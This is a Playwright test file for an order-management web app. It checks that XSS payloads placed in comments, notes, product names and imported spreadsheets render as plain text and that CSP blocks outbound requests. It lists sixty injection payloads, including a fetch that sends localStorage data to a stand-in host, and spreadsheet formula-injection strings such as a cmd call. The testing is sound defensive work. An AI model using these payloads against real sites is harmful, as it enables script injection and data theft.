import { writeFile } from 'node:fs/promises';
import { utils, write } from '@e965/xlsx';
import { expect, type Page } from '@playwright/test';
import { test } from './journey.ts';
import { actionOf, card, followUpPath, operator, orderPath, sendOrder } from './orders/orders.ts';
import { signedIn, signIn } from './access/people.ts';

// T35: what people type is text everywhere: none of it runs, nothing of it leaves.

const script = "window.wasRun=(window.wasRun||0)+1;fetch('https://foreign.example/'+localStorage.length)";
const tags = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'marquee',
  'audio src=x',
  'math',
];
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart'];
const payloads = [
  ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="${script}">`)),
  `<script>${script}</script>`,
  '<script src="https://foreign.example/x.js"></script>',
  '<img src="https://foreign.example/p.png">',
  '<link rel="stylesheet" href="https://foreign.example/x.css">',
  `<a href="javascript:${script}">clique</a>`,
  `"><script>${script}</script>`,
  `'-${script}-'`,
  '{{constructor.constructor("window.wasRun=1")()}}',
  `<svg><script>${script}</script></svg>`,
  '<style>@import "https://foreign.example/x.css";</style>',
];

/** Hears of scripts that ran, of what the policy had to stop, and of requests that leave. */
const watch = async (page: Page) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'foreign.example') foreign.push(request.url());
  });
  await page.addInitScript(() => {
    Object.assign(window, { stopped: [] as string[] });
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { stopped: string[] }).stopped.push(event.violatedDirective);
    });
  });
  return async () => ({
    foreign,
    ...(await page.evaluate(() => {
      const seen = window as unknown as { wasRun?: number; stopped: string[] };
      return { wasRun: seen.wasRun ?? 0, stopped: seen.stopped };
    })),
  });
};
const nothing = { foreign: [], wasRun: 0, stopped: [] };

test('T35: sixty attacks in comments, notes and names are read as text on every screen of an order', async ({
  page,
  request,
}) => {
  expect(payloads).toHaveLength(60);
  const order = await sendOrder(request);
  const ana = await operator(request);
  for (const message of payloads) {
    const sent = await request.post(
      `/api/intranet-rest-api/comments/order-suppliers/${order.delivery.publicId}`,
      { ...ana, data: { message } },
    );
    expect(sent.ok(), await sent.text()).toBe(true);
  }
  const [image = ''] = payloads;
  const noted = await request.put(`/api/order-suppliers/details/${order.delivery.publicId}`, {
    ...ana,
    data: { operatorNote: payloads.slice(0, 6).join(' ').slice(0, 1000) },
  });
  expect(noted.ok(), await noted.text()).toBe(true);

  const seen = await watch(page);
  await signedIn(page);
  await page.goto(orderPath(order));
  await expect(card(page)).toContainText(order.delivery.orderNumber);
  await (await actionOf(card(page), 'Comentários')).click();
  const panel = page.getByRole('dialog', { name: /^Comentários da entrega/ });
  for (const message of payloads) await expect(panel.getByText(message, { exact: true })).toHaveCount(1);
  expect(await seen()).toEqual(nothing);
  await panel.getByRole('button', { name: 'Fechar' }).click();
  await card(page).getByRole('button', { name: 'Histórico' }).click();
  const history = page.getByRole('dialog', { name: /^Histórico da entrega/ });
  await expect(history.getByText(image).first()).toBeVisible();
  expect(await seen()).toEqual(nothing);

  await page.goto(followUpPath(orderPath(order)));
  await expect(page.getByText(order.delivery.orderNumber).first()).toBeVisible();
  await page.goto('/delivery/delivery-list');
  await page.getByRole('textbox', { name: 'Buscar entregas' }).fill(image.slice(0, 100));
  await page.keyboard.press('Enter');
  await expect(page.getByText('Nenhum resultado encontrado.')).toBeVisible();
  expect(await seen()).toEqual(nothing);
});

test('T35: a script that gets into the page is not run, and what it would send does not leave', async ({
  page,
}) => {
  const seen = await watch(page);
  await signIn(page);
  const answer = await page.evaluate(async () => {
    const attempts: Record<string, string> = {};
    try {
      const script = document.createElement('script');
      script.append('window.wasRun=1');
      document.body.append(script);
    } catch (error) {
      attempts['script'] = String(error);
    }
    attempts['fetch'] = await fetch(`https://foreign.example/?${localStorage.length}`).then(
      () => 'sent',
      () => 'stopped',
    );
    return attempts;
  });
  expect(answer['fetch']).toBe('stopped');
  const { foreign, wasRun, stopped } = await seen();
  expect({ foreign, wasRun }).toEqual({ foreign: [], wasRun: 0 });
  expect(stopped).toContain('connect-src');
});

/** What others call things: a channel, a catalogue, a register. */
const named = new Set([
  ...[
    'store',
    'supplier',
    'product',
    'brand',
    'packDesc',
    'unit',
    'familyName',
    'sellerName',
    'operatorName',
  ],
  ...['discountReason', 'paymentMethodName', 'itemLabel', 'addedByName', 'authorName', 'address', 'city'],
]);

/** Names in every answer become attacks, as if a supplier or an ordering channel had typed them. */
const renameAll = async (page: Page, attack: string) => {
  const renamed = (value: unknown, key = ''): unknown => {
    if (typeof value === 'string') return named.has(key) ? attack : value;
    if (Array.isArray(value)) return value.map((one) => renamed(one, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([own, one]) => [own, renamed(one, own)]));
  };
  await page.route(/\/api\/(?!events|authorization)/, async (route) => {
    const response = await route.fetch();
    const isJson = response.headers()['content-type']?.includes('json') === true;
    if (!isJson) return route.fulfill({ response });
    return route.fulfill({ response, json: renamed(await response.json()) });
  });
};

test('T35: names of stores, suppliers and products that attack are text on every screen and dialog of an order', async ({
  page,
  request,
}) => {
  const attack = `<img src=x onerror="${script}"><script>${script}</script>`;
  const order = await sendOrder(request, 3, { prefix: '<img src=x onerror=alert(1)> ', note: attack });
  const seen = await watch(page);
  await renameAll(page, attack);
  await signedIn(page);
  await page.goto(orderPath(order));
  await expect(card(page).getByText(attack).first()).toBeVisible();
  expect(await seen()).toEqual(nothing);

  const dialogs: readonly (readonly [button: RegExp | string, dialog: RegExp])[] = [
    ['Baixar espelho (PDF)', /^Espelho do pedido/],
    ['Adicionar produto', /^Adicionar produto/],
    ['Histórico', /^Histórico da entrega/],
  ];
  for (const [button, name] of dialogs) {
    await page.getByRole('button', { name: button }).first().click();
    const dialog = page.getByRole('dialog', { name });
    await expect(dialog).toBeVisible();
    expect(await seen(), String(name)).toEqual(nothing);
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
  }
  const [mirror] = await Promise.all([
    page.waitForEvent('download'),
    (async () => {
      await page.getByRole('button', { name: 'Baixar espelho (PDF)' }).first().click();
      const dialog = page.getByRole('dialog', { name: /^Espelho do pedido/ });
      await dialog.getByRole('button', { name: 'Baixar espelho (PDF)' }).click();
    })(),
  ]);
  expect(mirror.suggestedFilename()).toMatch(/^espelho-[\w.-]+\.pdf$/);

  await page.goto(followUpPath(orderPath(order)));
  await expect(page.getByText(attack).first()).toBeVisible();
  await page.goto('/delivery/delivery-list');
  await expect(page.getByText(attack).first()).toBeVisible();
  expect(await seen()).toEqual(nothing);
  // Text of any length keeps its place: the page never scrolls sideways.
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
  await page.unrouteAll({ behavior: 'ignoreErrors' });
});

test('T35, T39: a sheet that attacks by its name and its cells changes nothing and runs nothing', async ({
  page,
  request,
}, testInfo) => {
  const order = await sendOrder(request);
  const seen = await watch(page);
  await signedIn(page);
  await page.goto(orderPath(order));
  await page.getByRole('button', { name: /^Mais ações de Pedido/ }).click();
  await page.getByRole('menuitem', { name: 'Planilha de itens' }).click();
  const dialog = page.getByRole('dialog', { name: /^Planilha de itens do pedido/ });
  const answer = await request.get(`/api/orders/${order.orderPublicId}/details`, await operator(request));
  const { orderSuppliers } = await answer.json();
  const [first, second, third] = orderSuppliers[0].orderSupplierItems;
  const formulas = ["=cmd|'/C calc'!A0", '=HYPERLINK("https://foreign.example";"x")', '+1+1'];
  const rows = [first, second, third].map(({ publicId }, index) => ({
    Código: publicId,
    Quantidade: formulas[index],
    Produto: payloads[index],
  }));
  const book = utils.book_new();
  const sheet = utils.json_to_sheet([...rows, { Código: payloads[0], Quantidade: 1 }]);
  utils.book_append_sheet(book, sheet, 'Itens');
  const path = testInfo.outputPath("'-img src=x onerror=alert(1)-.xlsx");
  await writeFile(path, write(book, { type: 'buffer', bookType: 'xlsx' }));
  await dialog.getByLabel('Arquivo para importar (XLSX ou CSV)').setInputFiles(path);
  for (const formula of formulas) {
    await expect(dialog.getByText(`Não é um número válido. (${formula})`)).toBeVisible();
  }
  await expect(dialog.getByText(payloads[0] ?? '').first()).toBeVisible();
  await expect(dialog.getByRole('button', { name: 'Aplicar' })).toHaveAttribute('aria-disabled', 'true');
  expect(await seen()).toEqual(nothing);
});
